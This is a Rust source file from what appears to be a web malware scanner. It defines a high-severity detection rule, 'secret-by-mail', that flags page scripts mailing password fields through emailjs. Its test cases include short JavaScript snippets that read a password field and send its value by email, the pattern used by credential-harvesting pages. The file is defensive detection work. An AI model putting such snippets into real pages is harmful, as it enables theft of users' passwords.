//! `secret-by-mail`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::taint::Mark;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-by-mail",
    description: "The script mails the contents of a password form directly from the page.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::MailClient]), one(&[Atom::SecretField])],
    within: 1500,
    only_if: Some(is_mailed),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "function s(e){e.preventDefault();emailjs.sendForm('s','t',e.target,'k')}jsx('input',{type:'password',name:'password'})",
            "const p=document.getElementById('user_password').value;const o={name:m.value,message:`Logs ${p}`};emailjs.send('s','t',o)",
            "const p=document.getElementById('password').value;signIn(m.value,p);emailjs.send('s','t',{email:m.value,password:p})",
        ],
        without: &[
            "const p=document.getElementById('password').value;signIn(m.value,p);contact.onsubmit=e=>{emailjs.send('s','t',{name:n.value,text:t.value})}",
            "emailjs.sendForm('s','t','#contact','k')",
            "emailjs.send('s','t',{email:m.value,password:makeWord()}).then(()=>alert('A temporary password was sent'))",
        ],
    },
};

/// Whether the script mails what it reads from such a field, or a form that has one. Not every secret nearby counts: who makes
/// a password for somebody mails it, too. A page may also have a form to sign in beside one that is mailed.
fn is_mailed(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, AROUND);
    let calls: Vec<usize> = near.places().filter_map(|at| mail_call(near, at)).collect();
    if calls.is_empty() {
        return false;
    }
    let mut secrets = near.places().filter(|at| near.has_fact_in(*at..at + 1, &[Atom::SecretField]));
    secrets.any(|secret| match near.call_around(secret).filter(|call| LOOKUPS.contains(&near.word(*call))) {
        Some(lookup) => near.calls_taking(lookup).iter().any(|call| calls.contains(call)),
        None if near.word(secret + 1) == "value" => {
            near.calls_taking(secret).iter().any(|call| calls.contains(call))
        }
        None => is_declared(near, secret) && calls.iter().any(|call| takes_form(evidence, near, *call)),
    })
}

/// The call that mails something, by the name of what does it.
fn mail_call(near: Near<'_>, client: usize) -> Option<usize> {
    if !near.has_fact_in(client..client + 1, &[Atom::MailClient]) {
        return None;
    }
    let is_member = near.kind(client + 1) == Some(Kind::Member) && near.is(client + 2, b'(');
    if is_member { Some(client + 1) } else { near.call_around(client) }
}

/// Whether a name is that of a field in markup or in a component: `{type: 'password'}`, `<input name="password">`.
fn is_declared(near: Near<'_>, secret: usize) -> bool {
    let text = near.word(secret);
    matches!(near.kind(secret), Some(Kind::Str | Kind::Template))
        && (!text.contains(' ') || text.contains("<input"))
}

/// Whether a call mails a form as a whole, or fields and a secret among them.
fn takes_form(evidence: &Evidence<'_>, near: Near<'_>, call: usize) -> bool {
    let flows = evidence.flows.iter().filter(|flow| flow.at as usize == call);
    near.word(call) == "sendForm"
        || flows.into_iter().any(|flow| {
            flow.marks.has(Mark::Field)
                && (flow.marks.has(Mark::Secret) || near.has_fact(&[Atom::FormContents]))
        })
}

/// What finds a field.
const LOOKUPS: &[&str] =
    &["getElementById", "querySelector", "getElementsByName", "getElementsByClassName", "$", "get"];
/// Items between what is mailed and the form.
const AROUND: usize = 1500;
